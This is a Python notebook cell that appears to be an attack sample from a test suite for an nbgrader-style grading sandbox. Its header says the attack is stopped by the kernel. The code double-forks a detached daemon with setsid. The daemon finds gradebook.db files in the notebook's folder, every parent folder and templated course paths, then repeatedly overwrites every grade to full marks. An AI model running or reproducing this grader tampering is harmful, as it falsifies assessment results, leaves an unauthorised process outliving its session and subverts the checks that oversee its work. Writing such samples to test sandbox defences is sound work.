# tries: leaves a daemon in its own session that waits for grading to end and then writes the gradebook
# only: ours, nbgrader
# gain: points after the fact, and a process that stays
# stopped by: kernel

# %% setup
import glob, os, re, sqlite3
def upwards(name):
    """Every file of that name beside or above the notebook, and where a well-informed attacker would look."""
    places, folder = ["@course@", "@repository@"], os.getcwd()
    while folder != "/":
        places.append(folder)
        folder = os.path.dirname(folder)
    return [path for place in places for path in glob.glob(os.path.join(place, name))]

import sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", """
import glob, sqlite3, sys, time
for _ in range(240):
    time.sleep(0.5)
    for path in sys.argv[2:]:
        try:
            book = sqlite3.connect(path, timeout=1)
            book.execute("update grade set auto_score = 5, manual_score = 5")
            book.commit()
        except sqlite3.Error:
            pass
""".replace("\n  ", "\n"), "rnnt-attack-daemon", *upwards("gradebook.db")])
    os._exit(0)
os.wait()
